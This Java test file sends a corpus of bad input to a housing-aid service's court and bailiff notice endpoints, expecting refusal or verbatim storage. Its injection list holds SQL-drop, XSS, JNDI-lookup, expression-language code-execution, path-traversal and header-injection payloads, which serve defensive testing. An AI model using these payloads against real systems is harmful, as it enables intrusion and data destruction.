package de.berlin.sozwohn.wohnraumerhalt.intake;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.berlin.sozwohn.wohnraumerhalt.process.CaseVariables;
import de.berlin.sozwohn.wohnraumerhalt.support.AppTest;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Bad input against {@code POST /api/notices/court} and {@code /bailiff}: malformed JSON, wrong
 * types, huge bodies, unknown districts, impossible and future dates, and injection strings (SQL,
 * HTML, JNDI, JUEL/SpEL expressions) in every text field. Each input must end either in a 4xx
 * problem document with nothing stored, or – for text that is merely odd – in a case whose variable
 * holds the text verbatim (never evaluated). Never a 5xx, never half a case; the application is
 * healthy afterwards. The corpus has {@link #corpus()}{@code .count()} inputs (the report counts
 * them).
 */
@AppTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputCorpusTest {

  static final String COURT = "/api/notices/court";
  static final String BAILIFF = "/api/notices/bailiff";
  private static final String RUN = UUID.randomUUID().toString().substring(0, 6);
  private static final AtomicInteger NUMBERS = new AtomicInteger();
  private static final ObjectMapper JSON = new ObjectMapper();

  /** Strings that must never be interpreted: stored as they are, or refused. */
  static final List<String> INJECTIONS = List.of(
      "'; DROP TABLE case_registry; --",
      "' OR '1'='1",
      "Robert\"); DELETE FROM act_ru_task; --",
      "<script>alert('x')</script>",
      "<img src=x onerror=alert(1)>",
      "${jndi:ldap://x.example/a}",
      "${1+1}",
      "#{7*7}",
      "${execution.setVariable('pwned', true)}",
      "#{T(java.lang.Runtime).getRuntime().exec('id')}",
      "${''.getClass().forName('java.lang.System').exit(0)}",
      "{{7*7}}",
      "../../etc/passwd",
      "Müller-Lüdenscheidt \u202Egnissörg",
      "%00%0d%0aSet-Cookie: x=y");

  /** Text fields of a court notice and the case variable each ends up in. */
  static final Map<String, String> COURT_TEXT_FIELDS = Map.of(
      "court", CaseVariables.COURT,
      "courtFileNumber", CaseVariables.COURT_FILE_NUMBER,
      "landlord", CaseVariables.LANDLORD,
      "household.name", CaseVariables.HOUSEHOLD_NAME,
      "household.street", CaseVariables.HOUSEHOLD_STREET,
      "household.postalCode", CaseVariables.HOUSEHOLD_POSTAL_CODE,
      "household.city", CaseVariables.HOUSEHOLD_CITY,
      "household.phone", CaseVariables.HOUSEHOLD_PHONE,
      "household.email", CaseVariables.HOUSEHOLD_EMAIL,
      "district", CaseVariables.DISTRICT);

  /**
   * JSON escapes of characters no text field takes: bidi overrides, embeddings, isolates and marks,
   * other format characters (invisible times, tag characters, interlinear annotation), lone
   * surrogates, C1 controls (NEL, the terminal escape CSI), DEL and the Unicode line separator.
   */
  static final List<String> FORMAT_AND_BROKEN = List.of("\\u202E", "\\u202D", "\\u202B",
      "\\u2066", "\\u2067", "\\u2068", "\\u2069", "\\u200F", "\\u061C", "\\u2062",
      "\\udb40\\udc41", "\\ufff9", "\\ud800", "\\udfff", "\\ud83d", "\\u0085",
      "\\u009b[2J", "\\u007f", "\\u2028");

  /** Text fields of a court notice that a format character could disguise. */
  static final List<String> NAMED_TEXT_FIELDS = List.of("court", "courtFileNumber", "landlord",
      "household.name", "household.street", "household.city", "household.phone",
      "household.email");

  @Autowired RuntimeService runtimeService;
  @Autowired JdbcTemplate jdbc;
  @LocalServerPort int port;

  final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
  final List<String> outcomes = new ArrayList<>();

  /** One bad input: where it goes, the raw body, and whether it may be sent chunked. */
  record Input(String label, String path, byte[] body, boolean chunked, String field,
      Object stored) {
    /** This input may also be accepted, with {@code text} stored verbatim for {@code field}. */
    Input asText(String field, String text) {
      return stored(field, text);
    }

    /** This input may also be accepted, storing {@code value} for {@code field}. */
    Input stored(String field, Object value) {
      return new Input(label, path, body, chunked, field, value);
    }

    @Override
    public String toString() {
      return label;
    }
  }

  static Stream<Input> corpus() {
    List<Input> inputs = new ArrayList<>();
    // malformed JSON and wrong shapes
    for (String raw : List.of("", " ", "{", "}", "{\"district\": \"mitte\", \"court\": ", "null", "[]",
        "42", "\"mitte\"", "true", "{\"district\": \"mitte\"}}", "{'district': 'mitte'}",
        "{\"district\": mitte}", "{\"district\": \"mitte\",}", "{\"a\":1}{\"b\":2}",
        "[".repeat(5_000) + "]".repeat(5_000), "{\"household\":".repeat(2_000) + "1"
            + "}".repeat(2_000), "\u0000\u0001\u0002")) {
      inputs.add(raw("malformed " + abbreviate(raw), COURT, raw.getBytes(StandardCharsets.UTF_8)));
      inputs.add(raw("malformed bailiff " + abbreviate(raw), BAILIFF, raw.getBytes(StandardCharsets.UTF_8)));
    }
    inputs.add(raw("invalid UTF-8", COURT, new byte[] {'{', '"', 'd', '"', ':', '"', (byte) 0xC3,
        (byte) 0x28, '"', '}'}));
    // wrong types
    Object[] wrongValues = {1, 2.5, true, List.of(), Map.of(), List.of("mitte")};
    for (String field : List.of("district", "court", "courtFileNumber", "receivedOn", "landlord",
        "hearingOn", "household.name", "household.postalCode", "household.email")) {
      for (Object value : wrongValues) {
        inputs.add(court("type " + field + "=" + value, field, value));
      }
    }
    for (Object value : new Object[] {"viel", "2.450,00", true, List.of(1), Map.of(), -1, 0,
        1e308, "NaN", "Infinity", 12345678901234567890.0, "1e9999", 0.001}) {
      Input input = court("type arrears=" + value, "arrears", value);
      inputs.add(value instanceof Integer zero && zero == 0 ? input.stored("arrears", 0.0) : input);
    }
    for (Object value : new Object[] {"Erika", List.of(), 7, null}) {
      inputs.add(court("type household=" + value, "household", value));
    }
    // unknown district
    for (String district : List.of("atlantis", "MITTE", " mitte", "mitte\n", "../mitte", "",
        "mitte'--", "berlin", "*", "%")) {
      Input input = court("district " + district, "district", district);
      // surrounding blanks are trimmed: the notice is Mitte's
      inputs.add(district.strip().equals("mitte") ? input.stored("district", "mitte") : input);
    }
    // impossible, badly formatted and future dates
    for (String date : List.of("2026-02-30", "2026-13-01", "2026-00-10", "2025-02-29", "02.03.2026",
        "2026-3-2", "2026-03-02T09:00", "20260302", "2099-01-01", today().plusDays(1).toString(),
        "1900-01-01", "0000-01-01", "+10000-01-01", "heute", "")) {
      inputs.add(court("receivedOn " + date, "receivedOn", date));
      // a hearing lies from one year before to two years after receipt; an empty one is none
      Input hearing = court("hearingOn " + date, "hearingOn", date);
      inputs.add(date.isEmpty() ? hearing.stored("hearingOn", null)
          : date.equals(today().plusDays(1).toString()) ? hearing.stored("hearingOn", date)
          : hearing);
    }
    for (String date : List.of("0001-01-01", "9999-12-31", today().minusYears(1).minusDays(1)
        .toString(), today().plusYears(2).plusDays(1).toString())) {
      inputs.add(court("hearingOn out of window " + date, "hearingOn", date));
    }
    for (String at : List.of("2026-02-30T09:00", "2026-05-12T25:00", "2026-05-12T09:60",
        "2026-05-12", "12.05.2026 09:00", "2026-05-12T09:00:00+99:00", "x",
        // out of the window: not before receipt, at most one year after it
        "9999-12-31T09:00", "0001-01-01T00:00", today().minusDays(1) + "T09:00",
        today().plusYears(1).plusDays(1) + "T09:00", "+10000-01-01T09:00")) {
      inputs.add(bailiff("evictionAt " + at, "evictionAt", at));
    }
    // injection strings and other odd text in every text field: refused or stored verbatim
    for (String text : INJECTIONS) {
      COURT_TEXT_FIELDS.keySet().stream().sorted().forEach(field ->
          inputs.add(court("text " + field + "=" + text, field, text).asText(field, text)));
      inputs.add(bailiff("text bailiffReference=" + text, "bailiffReference", text)
          .asText("bailiffReference", text));
    }
    // too long, control characters
    inputs.add(court("name 201 chars", "household.name", "x".repeat(201)));
    inputs.add(court("name with NUL", "household.name", "Erika\u0000Mustermann"));
    inputs.add(court("name with line break", "household.name", "Erika\nMustermann"));
    inputs.add(court("court file 10000 chars", "courtFileNumber", "1".repeat(10_000)));
    // characters that change how text is shown, or are none at all: refused in every text field,
    // sent as a stranger would, as JSON escapes (a lone surrogate cannot be written otherwise)
    for (String escape : FORMAT_AND_BROKEN) {
      for (String field : NAMED_TEXT_FIELDS) {
        inputs.add(courtWithEscape("text " + field + " with " + escape, field, escape));
      }
      inputs.add(bailiffWithEscape("text bailiffReference with " + escape, escape));
    }
    // names without a letter, or of invisible characters only
    for (String name : List.of("\u200B", "\u00AD", "\uFEFF", "\u2060", "\u3164",
        "\u115F\u1160", "12345", "---", "\u200B\u200B\u200B")) {
      inputs.add(courtWithEscape("name " + name, "household.name", "", name));
    }
    inputs.add(court("landlord without letter", "landlord", "12345"));
    inputs.add(court("court without letter", "court", "42"));
    inputs.add(court("street without letter", "household.street", "17"));
    // NFKC makes "\uFDFA" 18 characters: the duplicate keys must still fit their columns
    inputs.add(court("court file NFKC 180 chars", "courtFileNumber", "\uFDFA".repeat(10)));
    inputs.add(court("name NFKC 2700 chars", "household.name", "\uFDFA".repeat(150)));
    // inert invisible characters (soft hyphen, zero-width space, ZWNJ) are kept as sent
    for (String text : List.of("Erika Muster\u00ADmann", "Erika\u200BKorpus",
        "\u0645\u06CC\u200C\u0631\u0632\u0627")) {
      inputs.add(court("name with inert invisible " + abbreviate(text), "household.name", text)
          .asText("household.name", text));
    }
    // huge bodies: declared and chunked
    String huge = "{\"district\":\"mitte\",\"court\":\"" + "A".repeat(100_000) + "\"}";
    inputs.add(raw("100 KB body", COURT, huge.getBytes(StandardCharsets.UTF_8)));
    inputs.add(new Input("100 KB body chunked", COURT, huge.getBytes(StandardCharsets.UTF_8), true,
        null, null));
    inputs.add(raw("10 MB body", BAILIFF, new byte[10 * 1024 * 1024]));
    return inputs.stream();
  }

  @ParameterizedTest(name = "{index}: {0}")
  @MethodSource("corpus")
  void isRefusedOrStoredVerbatim(Input input) throws Exception {
    long instancesBefore = instances();
    long rowsBefore = registryRows();

    HttpResponse<String> response = send(input);
    int status = response.statusCode();
    outcomes.add(status + " " + input.label());

    assertThat(status).as("%s: %s", input.label(), response.body()).isLessThan(500);
    if (status >= 400) {
      assertThat(response.headers().firstValue("Content-Type").orElse(""))
          .as("%s: %s", input.label(), response.body()).startsWith("application/problem+json");
      JsonNode problem = JSON.readTree(response.body());
      assertThat(problem.path("status").asInt()).isEqualTo(status);
      assertThat(problem.path("type").asText()).isNotBlank();
      assertThat(instances()).as("no instance after %s", input.label()).isEqualTo(instancesBefore);
      assertThat(registryRows()).as("no registry row after %s", input.label()).isEqualTo(rowsBefore);
      return;
    }
    assertThat(status).as("%s: %s", input.label(), response.body()).isIn(200, 201);
    assertThat(input.field()).as("only odd text may be accepted, not %s: %s", input.label(),
        response.body()).isNotNull();
    JsonNode body = JSON.readTree(response.body());
    String processInstanceId = body.path("processInstanceId").asText();
    assertThat(instances()).isEqualTo(instancesBefore + 1);
    assertThat(registryRows()).isEqualTo(rowsBefore + 1);
    String variable = switch (input.field()) {
      case "bailiffReference" -> CaseVariables.BAILIFF_REFERENCE;
      case "hearingOn" -> CaseVariables.HEARING_ON;
      case "arrears" -> CaseVariables.ARREARS;
      default -> COURT_TEXT_FIELDS.get(input.field());
    };
    List<Object> values = runtimeService.createVariableInstanceQuery()
        .processInstanceIdIn(processInstanceId).variableName(variable).list().stream()
        .map(v -> v.getValue()).toList();
    assertThat(values).as("%s stored verbatim", input.label()).containsExactly(input.stored());
    assertThat(runtimeService.getVariable(processInstanceId, "pwned")).isNull();
  }

  @AfterAll
  void healthyAfterwards() throws Exception {
    HttpResponse<String> health = http.send(HttpRequest.newBuilder(
        URI.create("http://localhost:" + port + "/actuator/health")).GET().build(),
        HttpResponse.BodyHandlers.ofString());
    assertThat(health.statusCode()).isEqualTo(200);
    assertThat(health.body()).contains("\"UP\"");
    assertThat(jdbc.queryForObject("select count(*) from case_registry", Long.class)).isPositive();
    long refused = outcomes.stream().filter(o -> o.startsWith("4")).count();
    System.out.printf("BadInputCorpusTest: %d inputs, %d refused (4xx), %d stored verbatim%n",
        outcomes.size(), refused, outcomes.size() - refused);
  }

  // ------------------------------------------------------------------ helpers

  HttpResponse<String> send(Input input) throws Exception {
    HttpRequest.BodyPublisher body = input.chunked()
        ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(input.body()))
        : HttpRequest.BodyPublishers.ofByteArray(input.body());
    String credentials = Base64.getEncoder().encodeToString("fk.mitte:demo".getBytes(StandardCharsets.UTF_8));
    return http.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + input.path()))
        .header("Authorization", "Basic " + credentials)
        .header("Content-Type", "application/json")
        .header("Accept", "application/json, application/problem+json")
        .POST(body).build(), HttpResponse.BodyHandlers.ofString());
  }

  long instances() {
    return runtimeService.createProcessInstanceQuery().count();
  }

  long registryRows() {
    return jdbc.queryForObject("select count(*) from case_registry", Long.class);
  }

  static LocalDate today() {
    return LocalDate.ofInstant(ClockUtil.getCurrentTime().toInstant(), ZoneId.of("Europe/Berlin"));
  }

  static Input raw(String label, String path, byte[] body) {
    return new Input(label, path, body, false, null, null);
  }

  static Input court(String label, String field, Object value) {
    Map<String, Object> notice = courtNotice();
    set(notice, field, value);
    return new Input(label, COURT, bytes(notice), false, null, null);
  }

  static Input bailiff(String label, String field, Object value) {
    Map<String, Object> notice = new LinkedHashMap<>();
    notice.put("district", "mitte");
    notice.put("bailiffReference", "DR II " + NUMBERS.incrementAndGet() + "-" + RUN + "/26");
    notice.put("receivedOn", today().toString());
    notice.put("evictionAt", today().plusWeeks(6) + "T09:00");
    notice.put("household", household());
    set(notice, field, value);
    return new Input(label, BAILIFF, bytes(notice), false, null, null);
  }

  /** A court notice whose {@code field} has the raw JSON {@code escape} inside its value. */
  static Input courtWithEscape(String label, String field, String escape) {
    Map<String, Object> notice = courtNotice();
    Object value = get(notice, field);
    String text = value == null ? field.endsWith("phone") ? "030 1234567" : "erika@example.de"
        : value.toString();
    return courtWithEscape(label, field, text.substring(0, text.length() / 2), escape
        + text.substring(text.length() / 2).replace("\\", "\\\\").replace("\"", "\\\""));
  }

  /** A court notice whose {@code field} is {@code prefix} followed by raw JSON {@code escaped}. */
  static Input courtWithEscape(String label, String field, String prefix, String escaped) {
    Map<String, Object> notice = courtNotice();
    set(notice, field, prefix + PLACEHOLDER);
    String json = new String(bytes(notice), StandardCharsets.UTF_8).replace(PLACEHOLDER, escaped);
    return new Input(label, COURT, json.getBytes(StandardCharsets.UTF_8), false, null, null);
  }

  static Input bailiffWithEscape(String label, String escape) {
    Input input = bailiff(label, "bailiffReference", "DR II " + PLACEHOLDER + " "
        + NUMBERS.incrementAndGet() + "-" + RUN + "/26");
    String json = new String(input.body(), StandardCharsets.UTF_8).replace(PLACEHOLDER, escape);
    return new Input(label, BAILIFF, json.getBytes(StandardCharsets.UTF_8), false, null, null);
  }

  private static final String PLACEHOLDER = "@@ESCAPE@@";

  @SuppressWarnings("unchecked")
  static Object get(Map<String, Object> notice, String path) {
    String[] parts = path.split("\\.");
    Map<String, Object> target = notice;
    for (int i = 0; i < parts.length - 1; i++) {
      target = (Map<String, Object>) target.get(parts[i]);
    }
    return target.get(parts[parts.length - 1]);
  }

  static Map<String, Object> courtNotice() {
    Map<String, Object> notice = new LinkedHashMap<>();
    notice.put("district", "mitte");
    notice.put("court", "Amtsgericht Mitte");
    notice.put("courtFileNumber", "9 C " + NUMBERS.incrementAndGet() + "-" + RUN + "/26");
    notice.put("receivedOn", today().toString());
    notice.put("household", household());
    notice.put("landlord", "Wohnbau GmbH");
    notice.put("arrears", 2450.00);
    notice.put("hearingOn", null);
    return notice;
  }

  static Map<String, Object> household() {
    Map<String, Object> household = new LinkedHashMap<>();
    household.put("name", "Erika Korpus");
    household.put("street", "Korpusweg " + NUMBERS.incrementAndGet() + " " + RUN);
    household.put("postalCode", "10115");
    household.put("city", "Berlin");
    household.put("phone", null);
    household.put("email", null);
    return household;
  }

  @SuppressWarnings("unchecked")
  static void set(Map<String, Object> notice, String path, Object value) {
    String[] parts = path.split("\\.");
    Map<String, Object> target = notice;
    for (int i = 0; i < parts.length - 1; i++) {
      target = (Map<String, Object>) target.get(parts[i]);
    }
    target.put(parts[parts.length - 1], value);
  }

  static byte[] bytes(Object value) {
    try {
      return JSON.writeValueAsBytes(value);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  static String abbreviate(String raw) {
    String shown = raw.replaceAll("\\p{Cntrl}", "?");
    return shown.length() > 30 ? shown.substring(0, 30) + "… (" + raw.length() + " chars)" : shown;
  }
}
